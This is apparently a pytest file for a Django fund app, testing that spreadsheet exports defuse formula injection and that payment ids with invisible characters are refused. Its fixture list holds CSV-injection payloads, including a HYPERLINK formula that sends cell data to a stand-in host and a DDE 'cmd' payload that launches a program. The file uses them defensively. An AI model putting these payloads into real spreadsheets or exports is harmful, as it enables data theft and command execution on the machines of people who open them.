"""What leaves the fund as a spreadsheet never runs as a formula (admin export in CSV and XLSX,
the member's statement), and imports again as it was; Bitpin ids and amounts mean one thing on
every path."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from fund import statement
from fund.imports import load_dataset, run_import
from fund.models import Payment, User
from fund.text import FORMULA_STARTS, TextRefused, normalise_bitpin_id, safe_cell, unsafe_cell
from tests.conftest import THIS_MONTH

# The attack's cells (issue 13, fault 4): each is a formula to a spreadsheet that reads it raw.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+HYPERLINK(1)",
    "-2+3+SUM(A1:A9)",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMATS = {"csv": "0", "xlsx": "1"}


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def staff(client: Client, operator: User) -> Client:
    client.force_login(operator)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


@pytest.fixture
def attacked(history, member):
    """Verified payments whose Bitpin ids (member-chosen) are formulas, and a member named like one."""
    for months_ago, bitpin_id in enumerate(FORMULAS):
        if not any(ch.isspace() for ch in bitpin_id):  # ids cannot hold spaces; the names below can
            history.pay(member, THIS_MONTH - 1 - months_ago, bitpin_id=bitpin_id)
    history.member("-bob+1", first_name="=cmd|'/C calc'!A0", last_name="\t=1+1")
    return member


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def assert_no_formula_text(cells: list[str]) -> None:
    for text in cells:
        assert not text.startswith(FORMULA_STARTS) or _is_plain_number(text), repr(text)


def export(client: Client, model: str, fmt: str) -> bytes:
    response = client.post(reverse(f"admin:fund_{model}_export"), {"format": FORMATS[fmt], "resource": "0"})
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_safe_cell_neutralises_every_formula_start_and_keeps_numbers_readable():
    for text in FORMULAS:
        assert safe_cell(text) == f"'{text}" and unsafe_cell(safe_cell(text)) == text
    assert [safe_cell(value) for value in ("-12.50", "+3", "12", 7, None, "bp-1", "'quoted")] == [
        "-12.50", "+3", "12", 7, None, "bp-1", "'quoted"]  # fmt: skip
    assert unsafe_cell("'quoted") == "'quoted"  # an apostrophe we did not add stays


@pytest.mark.parametrize("model", ["payment", "user"])
def test_the_admin_csv_export_neutralises_formulas(staff, attacked, model):
    rows = list(csv.reader(io.StringIO(export(staff, model, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert_no_formula_text(cells)
    if model == "payment":
        assert {f"'{text}" for text in FORMULAS if not any(ch.isspace() for ch in text)} <= set(cells)
    else:
        assert {"'-bob+1", "'=cmd|'/C calc'!A0", "'\t=1+1"} <= set(cells)


@pytest.mark.parametrize("model", ["payment", "user"])
def test_the_admin_xlsx_export_holds_no_formula(staff, attacked, model):
    book = openpyxl.load_workbook(io.BytesIO(export(staff, model, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert_no_formula_text([cell.value for cell in cells if isinstance(cell.value, str)])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_again_unchanged(staff, attacked, fmt):
    ids = sorted(Payment.objects.values_list("bitpin_id", flat=True))
    content = export(staff, "payment", fmt)
    Payment.objects.all().delete()
    name = f"payments.{fmt}"
    outcome = run_import(kind="payments", dataset=load_dataset(content=content, file_name=name), file_name=name)
    assert outcome.ok, outcome.problems
    assert sorted(Payment.objects.values_list("bitpin_id", flat=True)) == ids


def test_the_statement_csv_neutralises_formulas(attacked):
    rows = list(csv.reader(io.StringIO(statement.statement_csv(attacked))))
    assert_no_formula_text([cell for row in rows[1:] for cell in row])
    assert "'-2+3+SUM(A1:A9)" in {row[-1] for row in rows}


# --- Bitpin ids: one normalisation for every path ---------------------------------------------------------

INVISIBLE = {
    "space": "bp 1",
    "no-break space": "bp\u00a01",
    "zero-width space": "bp\u200b1",
    "zero-width non-joiner": "bp\u200c1",
    "left-to-right mark": "\u200ebp1",
    "right-to-left mark": "bp1\u200f",
    "isolate": "\u2066bp1\u2069",
    "byte-order mark": "\ufeffbp1",
    "ideographic space": "bp\u30001",
    "tab": "bp\t1",
}


@pytest.mark.parametrize("text", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_a_bitpin_id_with_an_invisible_character_is_refused_with_a_message(text):
    with pytest.raises(TextRefused, match="cannot contain"):
        normalise_bitpin_id(text)


def test_a_bitpin_id_is_nfkc_normalised_and_trimmed():
    assert normalise_bitpin_id("  ｂｐ－１ ") == "bp-1"
    assert normalise_bitpin_id("") == "" and normalise_bitpin_id(None) == ""


@pytest.mark.parametrize("text", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_the_import_refuses_the_bitpin_ids_the_member_form_refuses(client, member, config, text):
    client.force_login(member)
    page = client.post(reverse("member-pay"), {"fee": "20", "bitpin_id": text}, HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 200 and not Payment.objects.exists()  # the form shows the refusal

    rows = [["member", "month", "fee", "bitpin_id"], [member.username, str(THIS_MONTH - 1), "20", text]]
    import tablib

    outcome = run_import(kind="payments", dataset=tablib.Dataset(*rows[1:], headers=rows[0]), file_name="p.csv")
    assert [(problem.row, problem.column) for problem in outcome.problems] == [(1, "bitpin_id")]
    assert "cannot contain" in outcome.problems[0].message
    assert not Payment.objects.exists()


def test_an_id_and_the_same_id_with_a_zero_width_space_are_never_two_ids(member):
    import tablib

    rows = [
        [member.username, str(THIS_MONTH - 2), "20", "bp-7"],
        [member.username, str(THIS_MONTH - 1), "20", "bp-7\u200b"],
    ]
    outcome = run_import(
        kind="payments",
        dataset=tablib.Dataset(*rows, headers=["member", "month", "fee", "bitpin_id"]),
        file_name="p.csv",
    )
    assert [problem.row for problem in outcome.problems] == [2]
    assert not Payment.objects.exists()


@pytest.mark.parametrize("amount", ["2\u200f0", "\u200e20", "20\u200b", "\ufeff20"])
def test_an_amount_with_an_invisible_mark_is_refused_in_the_import(member, amount):
    import tablib

    rows = [[member.username, str(THIS_MONTH - 1), amount]]
    outcome = run_import(
        kind="payments", dataset=tablib.Dataset(*rows, headers=["member", "month", "fee"]), file_name="p.csv"
    )
    assert [(problem.row, problem.column) for problem in outcome.problems] == [(1, "fee")]
    assert "invisible" in outcome.problems[0].message
    assert not Payment.objects.exists()


@pytest.mark.parametrize(
    "fee, message",
    [
        ("1e1000000", "without an exponent"),
        ("1E+3", "without an exponent"),
        (1e300, "too large"),
        ("+20", "not a number"),
    ],
)
def test_the_import_refuses_an_amount_that_is_not_a_plain_decimal_in_words(member, fee, message):
    import tablib

    rows = [[member.username, str(THIS_MONTH - 1), fee]]
    outcome = run_import(
        kind="payments", dataset=tablib.Dataset(*rows, headers=["member", "month", "fee"]), file_name="p.csv"
    )
    assert [(problem.row, problem.column) for problem in outcome.problems] == [(1, "fee")]
    assert message in outcome.problems[0].message and "Overflow" not in outcome.problems[0].message
    assert not Payment.objects.exists()
